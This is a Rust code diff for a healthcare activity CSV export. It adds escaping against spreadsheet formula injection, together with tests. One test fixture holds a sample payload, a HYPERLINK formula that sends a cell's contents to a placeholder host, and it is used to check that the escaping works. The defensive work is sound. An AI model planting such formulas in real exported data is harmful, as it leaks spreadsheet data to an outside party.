@@ -75,33 +75,79 @@ pub fn activities(db: &Database, filter: &ActivityFilter) -> Result<Vec<Activity
     Ok(rows.collect::<Result<_, _>>()?)
 }
 
-/// The rows as CSV with a header.
+/// The CSV columns, in order: the field names of [`ActivityRow`].
+pub const ACTIVITY_COLUMNS: [&str; 15] = [
+    "activity_id",
+    "ecm_activity_id",
+    "activity_type",
+    "direction",
+    "status",
+    "patient_id",
+    "ecm_patient_id",
+    "patient_name",
+    "performed_by_id",
+    "assigned_to_id",
+    "text_message_id",
+    "voice_call_id",
+    "event_id",
+    "event_type",
+    "occurred_at",
+];
+
+impl ActivityRow {
+    /// The row's cells in [`ACTIVITY_COLUMNS`] order, as written (an absent
+    /// value is an empty cell).
+    fn cells(&self) -> [String; 15] {
+        fn opt<T: ToString>(v: &Option<T>) -> String {
+            v.as_ref().map(ToString::to_string).unwrap_or_default()
+        }
+        [
+            self.activity_id.to_string(),
+            opt(&self.ecm_activity_id),
+            self.activity_type.clone(),
+            self.direction.clone(),
+            self.status.clone(),
+            opt(&self.patient_id),
+            opt(&self.ecm_patient_id),
+            opt(&self.patient_name),
+            self.performed_by_id.clone(),
+            self.assigned_to_id.clone(),
+            opt(&self.text_message_id),
+            opt(&self.voice_call_id),
+            opt(&self.event_id),
+            opt(&self.event_type),
+            opt(&self.occurred_at),
+        ]
+    }
+}
+
+/// A CSV cell that a spreadsheet will not run as a formula (OWASP "CSV
+/// injection"): a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading `'`, so `=HYPERLINK(...)` shows as text. This holds
+/// for every column, phone numbers in E.164 (`+1805...`) too: a `+` cell is
+/// a formula to Excel, and `'+1805...` still reads as the number.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The rows as CSV with a header, every cell made [`spreadsheet_safe`].
 pub fn activities_csv(rows: &[ActivityRow]) -> String {
     let mut w = csv::Writer::from_writer(Vec::new());
+    let mut write = |record: &[&str]| {
+        // Writing to a Vec cannot fail.
+        let _ = w.write_record(record.iter().map(|c| spreadsheet_safe(c).into_owned()));
+    };
+    write(&ACTIVITY_COLUMNS);
     for r in rows {
-        w.serialize(r).expect("activity rows serialize");
+        let cells = r.cells();
+        write(&cells.each_ref().map(String::as_str));
     }
-    if rows.is_empty() {
-        w.write_record([
-            "activity_id",
-            "ecm_activity_id",
-            "activity_type",
-            "direction",
-            "status",
-            "patient_id",
-            "ecm_patient_id",
-            "patient_name",
-            "performed_by_id",
-            "assigned_to_id",
-            "text_message_id",
-            "voice_call_id",
-            "event_id",
-            "event_type",
-            "occurred_at",
-        ])
-        .expect("header");
-    }
-    String::from_utf8(w.into_inner().expect("in-memory writer")).expect("CSV is UTF-8")
+    let bytes = w.into_inner().unwrap_or_default();
+    String::from_utf8_lossy(&bytes).into_owned()
 }
 
 /// FHIR `Communication.status` for a CareDesk message state.
@@ -238,6 +284,48 @@ mod tests {
         assert!(csv.starts_with("activity_id,ecm_activity_id,activity_type"), "{csv}");
         assert!(csv.contains(",789,sms,outbound,created,"));
         assert!(activities_csv(&[]).starts_with("activity_id,"));
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
+        let (_d, db, p) = seeded();
+        db.conn()
+            .execute(
+                "UPDATE patients SET name = ?1 WHERE id = ?2",
+                params!["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", p],
+            )
+            .unwrap();
+        let rows = activities(&db, &ActivityFilter::default()).unwrap();
+        let csv = activities_csv(&rows);
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        assert_eq!(&record[7], "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "{csv}");
+        for (raw, shown) in [
+            ("=1+1", "'=1+1"),
+            ("+18055550100", "'+18055550100"),
+            ("-2", "'-2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("Ana = Lopez", "Ana = Lopez"),
+            ("", ""),
+            ("'quoted", "'quoted"),
+        ] {
+            assert_eq!(spreadsheet_safe(raw), shown, "{raw:?}");
+        }
+    }
+
+    #[test]
+    fn csv_columns_are_the_row_fields() {
+        let (_d, db, _p) = seeded();
+        let rows = activities(&db, &ActivityFilter::default()).unwrap();
+        let json = serde_json::to_value(&rows[0]).unwrap();
+        let mut fields: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
+        let mut columns = ACTIVITY_COLUMNS.to_vec();
+        fields.sort_unstable();
+        columns.sort_unstable();
+        assert_eq!(fields, columns);
+        assert_eq!(activities_csv(&[]).trim_end(), ACTIVITY_COLUMNS.join(","));
     }
 
     #[test]
